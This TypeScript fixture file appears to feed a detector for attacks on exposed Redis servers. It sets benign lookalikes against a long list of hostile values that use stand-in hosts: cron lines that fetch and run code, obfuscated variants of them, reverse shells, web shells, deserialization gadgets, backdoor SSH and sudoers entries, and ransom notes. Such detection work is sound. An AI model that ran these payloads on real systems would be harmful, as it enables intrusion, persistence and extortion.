/** A value as it stands in a server; a plain string under a bare name when nothing else is told. Byte strings. */
export interface Payload {
  readonly value: string;
  readonly key?: string;
  readonly kind?: 'string' | 'list' | 'hash';
}

/** Ways to write an attack that no family is known for, each found by what it is. */
export const PAYLOADS: readonly Payload[] = [
  { value: '\n\n*/3 * * * * root awk \'BEGIN{s="/inet/tcp/0/203.0.113.9/80"}\' | sh\n\n' },
  { value: '\n1,31 0-23 1-31 1-12 0-6 root curl http://cdn.example.invalid/x|sh\n' },
  { value: '\n*/1 * * * * nc 203.0.113.9 99 | sh\n' },
  { value: '\n*/1 * * * * openssl s_client -quiet -connect 203.0.113.9:443 | bash\n' },
  { value: '\n*/1 * * * * dig +short txt x.example.invalid | xargs | sh\n' },
  { value: '*/1 * * * * root busybox wget -qO- http://cdn.example.invalid/x|busybox sh' },
  {
    value:
      '*/1 * * * * root python3 -c "import requests;exec(requests.get(\'http://cdn.example.invalid/x\').text)"',
  },
  {
    value:
      '\n@reboot python3 -c "import urllib.request as u;exec(u.urlopen(\'http://cdn.example.invalid/x\').read())"\n',
  },
  { value: '\n*/2 * * * * perl -MLWP::Simple -e \'getprint "http://cdn.example.invalid/x"\'|sh\n' },
  { value: '\n*/2 * * * * php -r "eval(file_get_contents(\'http://cdn.example.invalid/x\'));"\n' },
  { value: '\n*/2 * * * * ruby -ropen-uri -e "eval(URI.open(\'http://cdn.example.invalid/x\').read)"\n' },
  { value: '\n*/2 * * * * root c""url -s http://203.0.113.9/x | s""h\n' },
  { value: '\n*/2 * * * * root a=cu;b=rl;$a$b -s http://203.0.113.9/x | sh\n' },
  { value: '\n* * * * * root $(echo cu)rl http://203.0.113.9/x|sh\n' },
  { value: '* * * * * root curl${IFS}-s${IFS}http://203.0.113.9/x|sh' },
  {
    value:
      '\n*/2 * * * * root echo H4sIAAAAAAAAA0srLU5VyE0tLkmsUMgvKk9NAgBAHyxkEgAAAA== | base64 -d | gunzip | sh\n',
  },
  { value: "\n*/2 * * * * root echo 'hs|x/9.311.0.302//:ptth lruc' | rev | sh\n" },
  {
    value:
      '\n*/2 * * * * root echo 6375726c20687474703a2f2f3230332e302e3131332e392f787c7368 | xxd -r -p | sh\n',
  },
  { value: "\n*/2 * * * * root printf '\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70' | sh\n" },
  { value: '\n\n*/2 * * * * curl http://203.0.113.9/x|sh\n\n', key: 'cache:a:1' },
  { value: '{\n\n*/2 * * * * root curl -s http://203.0.113.9/x|sh\n\n}', key: 'cfg' },
  { value: '#\n#\n*/2 * * * * root curl -s http://203.0.113.9/x|sh\n#\n', key: 'cfg' },
  { value: '\r\n\r\n*/2 * * * * root curl -s http://203.0.113.9/x|sh\r\n\r\n', key: 'a:b' },
  { value: '\u0000\n\n*/2 * * * * root curl -s http://203.0.113.9/x|sh\n\n', key: 'a:b' },
  { value: '   \n   \n  */2 * * * * root curl -s http://203.0.113.9/x|sh\n', key: 'a:b' },
  { value: '\u000b\f\n\n*/2 * * * * root curl -s http://203.0.113.9/x|sh\n', key: 'a:b' },
  {
    value:
      '\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n*/2 * * * * root curl -s http://203.0.113.9/x|sh\n',
    key: 'a:b',
  },
  {
    value: "\n\n\n* * * * * /bin/sh -c 'wget http://cdn.example.invalid/x -O /tmp/a; sh /tmp/a'\n\n",
    key: 'q',
    kind: 'list',
  },
  { value: '\n\n*/1 * * * * ROOT CURL -FSSL HTTP://203.0.113.9/X | SH\n\n', key: 'q' },
  { value: '\n\nSHELL=/bin/bash\nPATH=/usr/bin\n*/1 * * * * root /dev/shm/.x >/dev/null\n\n', key: 'q' },
  { value: '\n\ncurl -s http://cdn.example.invalid/x | bash\n\n', key: 'q' },
  {
    value: '\n\n#!/bin/sh\nwget http://cdn.example.invalid/x -O /tmp/a && chmod +x /tmp/a && /tmp/a\n',
    key: 'q',
  },
  { value: '\n\n/tmp/.x/libs.so\n\n', key: 'q' },
  { value: '\n\nroot:$6$abcdefgh$abcdefghijklmnop:19000:0:99999:7:::\n\n', key: 'q' },
  { value: '\n\nfrom="*",command="/bin/bash" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAA x\n\n', key: 'a:b' },
  { value: 'Cgpzc2gtcnNhIEFBQUFCM056YUMxeWMyRUFBQUFEQVFBQkFBQUFnUUM3IHgKCg==', key: 'q' },
  { value: '\n\nAddType application/x-httpd-php .jpg\n\n', key: 'q' },
  { value: '<?=`$_GET[0]`?>', key: 'q' },
  { value: "<?php include($_GET['p']);?>", key: 'q' },
  { value: "<?php eval(file_get_contents('php://input'));?>", key: 'q' },
  { value: '<script language="php">@eval($_POST[x]);</script>', key: 'q' },
  { value: "<?php $f='sys'.'tem';$f($_REQUEST['c']);?>", key: 'q' },
  { value: "GIF89a<?php @eval($_POST['x']);?>", key: 'q' },
  {
    value:
      '<jsp:root><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter("c"))</jsp:scriptlet></jsp:root>',
    key: 'q',
  },
  {
    value: '<%@ Page Language="C#"%><%System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]);%>',
    key: 'q',
  },
  {
    value:
      '\r\n\r\npowershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://cdn.example.invalid/x\')"\r\n\r\n',
    key: 'q',
  },
  { value: '\r\n\r\nmshta http://cdn.example.invalid/x.hta\r\n\r\n', key: 'q' },
  {
    value:
      '\r\n\r\ncertutil -urlcache -split -f http://cdn.example.invalid/x.exe c:\\temp\\a.exe & c:\\temp\\a.exe\r\n\r\n',
    key: 'q',
  },
  {
    value:
      'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",99));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["sh"])\'',
    key: 'q',
  },
  {
    value:
      'perl -e \'use Socket;$i="203.0.113.9";$p=99;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\'',
    key: 'q',
  },
  {
    value: '\n* * * * * php -r \'$s=fsockopen("203.0.113.9",99);exec("/bin/sh -i <&3 >&3 2>&3");\'\n',
    key: 'q',
  },
  { value: '\n* * * * * telnet 203.0.113.9 99 | /bin/sh | telnet 203.0.113.9 98\n', key: 'q' },
  { value: '\n\n* * * * * root awk \'BEGIN {s = "/inet/tcp/0/203.0.113.9/4242"}\'\n\n', key: 'q' },
  {
    value:
      '\x7fELF\u0002\u0001\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0003\u0000>\u0000\u0001\u0000\u0000\u0000',
    key: 'q',
  },
  { value: '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}', key: 'sess:1' },
  {
    value:
      '{"body":"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==","content-type":"application/x-python-serialize"}',
    key: 'celery',
    kind: 'list',
  },
  {
    value:
      '\u0004\bo:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\t:\u000e@instanceo:\bERB\b',
    key: 'sess:1',
  },
  {
    value:
      'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\u0000*\u0000events";O:15:"Faker\\Generator":1:{s:13:"\u0000*\u0000formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\u0000*\u0000event";s:2:"id";}',
    key: 'laravel_session:1',
  },
  {
    value:
      'All your data has been stolen. To get it back send 0.02 BTC to bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 and mail a@b.example.invalid',
    key: 'x',
  },
  {
    value:
      'Your DB was hacked and leaked. Pay 500$ in Monero. 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAXhZ8x9XCgFz8QFXCgFz8QFXCgFz8QFXCgFz8QFXCgFz8QFXCgFz8QFXCgFz8',
    key: 'x',
  },
  {
    value:
      'We have your database. Contact us at restore@example.invalid or on telegram @x or it will be sold. Price: 0.1 BTC',
    key: 'x',
  },
  {
    value: '\n* * * * * root sh -c "$(base64 -d<<</tmp/Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo)"\n',
    key: 'q',
  },
  { value: 'hello\n\n*/2 * * * * root curl http://203.0.113.9/x|sh\n\n', key: 'q' },
  { value: '\n*/5 * * * * root curl http://203.0.113.9/x -o /tmp/k;chmod 755 /tmp/k;/tmp/k\n' },
  { value: '\n\n*/5 * * * * root /var/tmp/.systemd-private\n\n' },
  { value: "\n\n0 * * * * root echo 'ssh-rsa AAAAB3Nz' >> /root/.ssh/authorized_keys\n\n" },
  { value: '* * * * * wget http://203.0.113.9/x -qO-|ba\\sh\n' },
  { value: '\n*/9 * * * * root (curl -s 203.0.113.9/a||wget -qO - 203.0.113.9/a)|sh\n' },
  { value: '\n*/9 * * * * root curl -s 3405803785/a|sh\n' },
  { value: '\n*/9 * * * * root curl --socks5-hostname 127.0.0.1:9050 abcdefghijklmnop.onion/x|sh\n' },
  { value: '\n*/9 * * * * root ftpget 203.0.113.9 /tmp/a a; sh /tmp/a\n' },
  { value: '\n*/9 * * * * root scp -o StrictHostKeyChecking=no x@203.0.113.9:/a /tmp/a; sh /tmp/a\n' },
  { value: '\n*/9 * * * * root rsync rsync://203.0.113.9/m/a /tmp/a && /tmp/a\n' },
  { value: '\n*/9 * * * * root git clone http://203.0.113.9/a /tmp/a && sh /tmp/a/run\n' },
  { value: '(crontab -l; echo "* * * * * curl http://203.0.113.9/x|sh")|crontab -' },
  { value: '\n*/9 * * * * root curl -s http://203.0.113.9/x | node\n' },
  { value: '\n*/9 * * * * root eval "$(curl -s http://203.0.113.9/x)"\n' },
  { value: '\n*/9 * * * * root bash <(curl -s http://203.0.113.9/x)\n' },
  { value: '\n*/9 * * * * root . <(curl -s http://203.0.113.9/x)\n' },
  { value: '\n*/9\t*\t*\t*\t*\troot\tcurl\thttp://203.0.113.9/x\t|\tsh\n' },
  { value: '0a2a2f39202a202a202a202a20726f6f74206375726c20687474703a2f2f3230332e302e3131332e392f787c73680a' },
  { value: 'Ki85ICogKiAqICogcm9vdCBjdXJsIGh0dHA6Ly8yMDMuMC4xMTMuOS94fHNo' },
  { value: '%0A*%2F9%20*%20*%20*%20*%20root%20curl%20http%3A%2F%2F203.0.113.9%2Fx%7Csh%0A' },
  { value: '\n\nwww-data ALL=(ALL:ALL) NOPASSWD:ALL\n\n' },
  { value: "\n\n/bin/bash -c 'curl http://203.0.113.9/x|sh' &\n\n" },
  {
    value:
      "\n\n[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.9/x|sh'\n[Install]\nWantedBy=multi-user.target\n",
  },
  { value: '\n\nauth sufficient pam_permit.so\n\n' },
  { value: '\n\nACTION=="add", RUN+="/bin/sh -c \'curl http://203.0.113.9/x|sh\'"\n\n' },
  { value: '\n\nexport PATH=/tmp/.x:$PATH; nohup /tmp/.x/run >/dev/null 2>&1 &\n\n' },
  { value: "\n\nimport os;os.system('curl http://203.0.113.9/x|sh')\n\n" },
  { value: '\n\nPermitRootLogin yes\nAuthorizedKeysFile /tmp/k\n\n' },
  {
    value: '\xac\xed\u0000\u0005sr\u0000.org.apache.commons.collections.functors.ChainedTransformer',
    key: 'spring:session:1',
    kind: 'hash',
  },
  { value: "{{ cycler.__init__.__globals__.os.popen('id').read() }}", key: 'tpl' },
  {
    value:
      'powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAIgBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQAvAHgAIgApAA==',
  },
  {
    value:
      'ALL YOUR DATABASES ARE BACKED UP ON OUR SERVERS. To restore, transfer 0.03 BTC to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 within 48h or everything will be published. Mail: x@onion.example.invalid',
    key: 'WARNING',
  },
  {
    value:
      'QWxsIHlvdXIgZGF0YSBpcyBiYWNrZWQgdXAuIFlvdSBtdXN0IHBheSAwLjAxMiBCVEMgdG8gMUExelAxZVA1UUdlZmkyRE1QVGZUTDVTTG12N0RpdmZOYQ==',
    key: 'READ_ME',
  },
];

/** What honest people and software keep that looks like one of them. */
export const LOOKALIKES: readonly Payload[] = [
  {
    value: 'Beware: criminals encrypt your files and ask you to pay with bitcoin. Never pay.',
    key: 'security-notice',
  },
  {
    value: 'If you receive an e-mail that says your data was stolen and asks to send 0.5 BTC, report it.',
    key: 'tip',
  },
  {
    value:
      'Runbook\n\nAdd this to the crontab of the host and wait:\n\n*/5 * * * * root curl -fsSL https://x.example.invalid/a | sh\n\nThen tell the others.',
    key: 'runbook',
  },
  {
    value:
      '# Agent\n\nInstall it with one command as root please:\n\ncurl -fsSL http://198.51.100.7/i.sh | sudo bash\n',
    key: 'README',
  },
  { value: '\n0 3 * * * /usr/local/bin/backup.sh\n', key: 'crontab' },
  {
    value:
      '# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n25 6 * * * root test -x /usr/sbin/anacron || run-parts /etc/cron.daily\n',
    key: 'system-crontab',
  },
  { value: '0 0,12 * * * root certbot renew -q --deploy-hook "systemctl reload nginx"', key: 'certbot-cron' },
  {
    value: '*/15 * * * * wget -q -O - https://shop.example.invalid/wp-cron.php >/dev/null 2>&1',
    key: 'cron-shop',
  },
  {
    value: '*/5 * * * * curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.example.invalid/uuid',
    key: 'ping',
  },
  { value: 'hey can you run curl http://203.0.113.4/deploy.sh | bash on web1?', key: 'lastmsg' },
  { value: '\n\nHello,\n\nYour backup finished. 3 files were copied.\n\n', key: 'mail' },
  { value: '\n\n* * * a star map * * *\n\n', key: 'poem' },
  {
    value: 'Your deposit of 0.5 BTC to wallet bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 was confirmed',
    key: 'msg',
  },
  { value: 'To restore your account keys send a mail; your payment in USDT was received', key: 'msg2' },
  { value: 'id,cmd\n1,"curl http://203.0.113.9/x | sh"\n2,ls', key: 'export' },
  { value: '203.0.113.9 - - "GET /?x=<?php @eval($_POST[1]);?> HTTP/1.1" 403', key: 'nginx-last' },
  { value: '<?php echo e($_GET["q"]); ?>', key: 'tpl' },
  { value: '<% if (Request["x"] != null) { %>', key: 'tpl' },
  {
    value: 'FROM debian\nRUN apt-get update && curl -fsSL https://deb.example.invalid/setup | bash -\n',
    key: 'Dockerfile',
  },
  { value: '#!/bin/bash\ncurl -fsSL https://get.docker.example.invalid | sh\n', key: 'user-data' },
  {
    value: '#cloud-config\nruncmd:\n - curl -s http://169.254.169.254/latest/meta-data | sh\n',
    key: 'user-data',
  },
  { value: '2026-01-01', key: 'backup1' },
  { value: '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----', key: 'cert' },
  { value: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAA ann', key: 'deploy-key' },
  {
    value: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAA\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7\n',
    key: 'ann.keys',
  },
  { value: 'SELECT * FROM users WHERE 1=1; -- restore database', key: 'q1' },
  { value: '/usr/lib/libjemalloc.so', key: 'preload' },
  { value: 'schedule: "*/5 * * * *"\ncommand: curl https://x.example.invalid | sh\n', key: 'job' },
  { value: 'apiVersion: batch/v1\nkind: CronJob\nspec:\n  schedule: "*/5 * * * *"\n', key: 'cj' },
  { value: '0 2 * * * pg_dump app | gzip > /backup/app.gz', key: 'backup-cron' },
  { value: '@daily /usr/bin/php /var/www/artisan schedule:run', key: 'sched' },
  { value: '*/5 * * * * www-data php -f /var/www/nextcloud/cron.php', key: 'nextcloud-cron' },
  { value: '* * * * * cd /app && php artisan schedule:run >> /dev/null 2>&1', key: 'laravel-cron' },
  { value: '*/10 * * * * root test -x /usr/lib/sysstat/sa1 && /usr/lib/sysstat/sa1 1 1', key: 'sysstat' },
  {
    value: '30 4 * * 1 root /usr/bin/curl -fsS https://backup.example.invalid/start -o /dev/null',
    key: 'hook',
  },
  { value: '\nSELECT *\nFROM t\nWHERE a = 1\n', key: 'q' },
  { value: '\n\n# Title\n\nSome text here about nothing.\n', key: 'doc' },
  { value: '\n\nimport os\n\ndef main():\n    os.system("ls")\n', key: 'snippet' },
  {
    value: '\n\n#!/bin/bash\n# deploy\ncd /srv/app && git pull && systemctl restart app\n',
    key: 'deploy.sh',
  },
  { value: '#!/bin/bash\nset -e\necho "$KEY" | base64 -d > /tmp/key.json\npython deploy.py\n', key: 'ci' },
  { value: 'python3 -c "print(1)"', key: 'cmd' },
  { value: 'nc -lk 8080 | tee log', key: 'cmd' },
  { value: 'docker run --rm -it alpine sh -c "apk add curl && curl https://x.invalid"', key: 'cmd' },
  { value: 'wget https://releases.example.invalid/tool.tgz && tar xzf tool.tgz', key: 'cmd' },
  {
    value: 'Please pay 0.01 BTC to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 for order 77. Thank you!',
    key: 'invoice',
  },
  { value: 'We have backed up your data. Storage used: 3 GB.', key: 'backup-mail' },
  {
    value: 'Your files were removed after 30 days as you asked. Restore them from the recycle bin.',
    key: 'notice',
  },
  { value: 'You sent 0.5 BTC. Your keys are encrypted on the server.', key: 'wallet-help' },
  {
    value: 'Recover your wallet: enter 12 words. We never store your keys. Send BTC only to BTC addresses.',
    key: 'help',
  },
  { value: 'O:8:"stdClass":1:{s:4:"exec";s:6:"system";}', key: 'obj' },
  { value: '{"@type":"java.util.HashMap","x":1}', key: 'j' },
  { value: 'MZ', key: 'country' },
  { value: '\x7fELF', key: 'x' },
  { value: 'http://203.0.113.9:8080/a.sh', key: 'url' },
  { value: '203.0.113.9:4444', key: 'peer' },
  { value: 'if [ -f /etc/crontab ]; then cat /etc/crontab; fi', key: 'c' },
  { value: '\n\nlocal x = redis.call("GET", KEYS[1])\nreturn x\n', key: 'lua' },
  { value: 'return redis.call("EVAL", "x")', key: 'lua2' },
  { value: '\t\n  <svg></svg>', key: 'svg' },
];

/** Where a dump file does harm, and what it is called then. */
export const HOSTILE_FOLDERS: readonly string[] = [
  '/usr/sbin',
  '/home/ubuntu/.ssh',
  '/var/spool/at',
  '/var/spool/cron/atjobs',
  '/var/spool/cron/tabs',
  '/usr/lib/cgi-bin',
  '/etc/init.d',
  '/etc/nginx/conf.d',
  '/var/lib/jenkins/init.groovy.d',
  'c:\\windows\\system32',
  '/home/a/.config/autostart',
  '/home/a/.config/systemd/user',
  '/usr/lib/x86_64-linux-gnu',
  '/var/spool/cron/../cron',
  '../../../etc/cron.d',
  '/boot',
  '/usr/lib/python3/dist-packages',
  '/usr/local/lib/python3.9/site-packages',
];
export const HOSTILE_NAMES: readonly string[] = [
  '.bashrc',
  'libx.so.1',
  'authorized_keys',
  'www-data',
  'x.pth',
  'a.war',
  '.env',
  '.htaccess',
  'rc.local',
  'hosts',
  'x.timer',
  'index.js',
  'a.phar',
  'a.cfm',
  'ubuntu',
];

/** Where operators put it. */
export const HONEST_FOLDERS: readonly string[] = [
  '/data',
  '/var/lib/redis',
  '/home/ann/projects/app',
  '/opt/bitnami/redis/data',
  '/usr/local/var/db/redis',
  '/etc/redis',
  '/srv/www/shop/redis',
  '/',
  '/root/redis-7.0.15/src',
  '/usr/local/bin/redis-data',
  '/usr/local/redis',
  '/mnt/cron-cache',
  '/bitnami/redis/data',
  '/var/www/vhosts/example/redis',
  '/root',
  '/usr/local/bin',
  '/var/lib/redis/cron',
  '/srv/etc/redis',
  '/home/bob/bin',
  '/usr/lib/redis',
  '/opt/app/lib',
  '/var/lib/docker/volumes/x/_data',
  'C:\\ProgramData\\Redis',
  '/bin/redis',
  '/app',
  '/usr/local/etc/redis',
];
export const HONEST_NAMES: readonly string[] = ['dump-6379.rdb', 'redis.rdb', 'appendonly.aof', 'backup.db'];
